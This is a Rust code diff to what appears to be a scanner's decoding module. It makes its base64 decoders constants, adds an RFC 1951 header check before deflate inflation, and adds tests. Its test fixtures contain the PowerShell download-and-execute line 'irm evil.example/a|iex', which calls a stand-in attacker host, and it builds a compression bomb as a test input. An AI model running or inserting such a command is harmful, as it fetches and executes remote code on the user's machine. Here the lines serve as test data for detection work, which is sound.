@@ -14,8 +14,10 @@ use crate::evidence::encoding::Encoding;
 /// encoding may begin, because a header of one letter moves all units. From those, the beginning is enough to recognise.
 pub fn decodings(encoding: Encoding, run: &[u8]) -> impl Iterator<Item = Vec<u8>> {
     const MAX_MOVED_CHARS: usize = 4 << 10;
-    let lenient =
+    const LENIENT: GeneralPurposeConfig =
         GeneralPurposeConfig::new().with_decode_allow_trailing_bits(true).with_decode_padding_mode(DecodePaddingMode::Indifferent);
+    const STANDARD: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT);
+    const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, LENIENT);
     let unit = match encoding {
         Encoding::Base64 | Encoding::Base64Url => 4,
         Encoding::Base32 => 8,
@@ -27,8 +29,8 @@ pub fn decodings(encoding: Encoding, run: &[u8]) -> impl Iterator<Item = Vec<u8>
         let run = if start == 0 { run } else { run.get(..MAX_MOVED_CHARS).unwrap_or(run) };
         let quads = if run.len() % 4 == 1 { run.split_last()?.1 } else { run };
         match encoding {
-            Encoding::Base64 => GeneralPurpose::new(&alphabet::STANDARD, lenient).decode(quads).ok(),
-            Encoding::Base64Url => GeneralPurpose::new(&alphabet::URL_SAFE, lenient).decode(quads).ok(),
+            Encoding::Base64 => STANDARD.decode(quads).ok(),
+            Encoding::Base64Url => URL_SAFE.decode(quads).ok(),
             // Not every length is valid; excess characters are left out.
             Encoding::Base32 => {
                 let run = run.to_ascii_uppercase();
@@ -133,13 +135,27 @@ pub fn unpacked(bytes: &[u8]) -> Option<(Encoding, Vec<u8>)> {
 
 /// What deflate compressed, if the bytes are a whole stream of it: nothing else tells it from other bytes.
 pub fn inflated(bytes: &[u8]) -> Option<Vec<u8>> {
-    let mut decoder = DeflateDecoder::new(bytes);
-    // The lowest three bits: whether this is the last block, and its kind, of which there are three.
-    let is_possible = bytes.first().is_some_and(|first| first & 0b110 != 0b110);
-    let mut out = Vec::new();
-    decoder.by_ref().take(if is_possible { MAX_UNPACKED_BYTES } else { 0 }).read_to_end(&mut out).ok()?;
+    if !may_be_deflate(bytes) {
+        return None; // a decoder takes 40 KB
+    }
+    let (mut decoder, mut out) = (DeflateDecoder::new(bytes), Vec::new());
+    decoder.by_ref().take(MAX_UNPACKED_BYTES).read_to_end(&mut out).ok()?;
     let is_whole = (out.len() as u64) < MAX_UNPACKED_BYTES && decoder.total_in() == bytes.len() as u64;
     (is_whole && !out.is_empty()).then_some(out)
+}
+
+/// Whether the first block of a stream may begin so (RFC 1951, 3.2): three bits say whether it is the last one, and its kind.
+fn may_be_deflate(bytes: &[u8]) -> bool {
+    let [first, second, ..] = bytes else { return false };
+    let head = u16::from_le_bytes([*first, *second]);
+    match head >> 1 & 0b11 {
+        // Stored: a length and its complement.
+        0 => matches!(bytes, [_, a, b, c, d, ..] if [*a, *b] == [!*c, !*d]),
+        1 => true,
+        // Codes of its own: 257 to 286 for letters and lengths, 1 to 30 for distances.
+        2 => head >> 3 & 0b1_1111 <= 29 && head >> 8 & 0b1_1111 <= 29,
+        _ => false,
+    }
 }
 
 #[cfg(test)]
@@ -171,6 +187,9 @@ mod tests {
         assert_eq!(inflated(&packed).as_deref(), Some(&b"powershell irm evil.example/a|iex"[..]));
         assert_eq!(inflated(&packed[..packed.len() - 1]), None);
         assert_eq!(inflated(&[&packed[..], b"x"].concat()), None);
+        let mut stored = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::none());
+        stored.write_all(b"irm evil.example/a|iex").unwrap();
+        assert_eq!(inflated(&stored.finish().unwrap()).as_deref(), Some(&b"irm evil.example/a|iex"[..]));
         let bomb = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
         let mut bomb = bomb;
         bomb.write_all(&vec![b'a'; 10 << 20]).unwrap();
@@ -178,6 +197,13 @@ mod tests {
     }
 
     proptest! {
+        #[test]
+        fn what_deflate_writes_is_inflated(bytes in proptest::collection::vec(0u8..4, 1..2000), level in 0u32..10) {
+            let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::new(level));
+            encoder.write_all(&bytes).unwrap();
+            prop_assert_eq!(inflated(&encoder.finish().unwrap()), Some(bytes));
+        }
+
         #[test]
         fn no_bytes_end_in_a_panic(bytes: Vec<u8>) {
             without_escapes(&bytes);
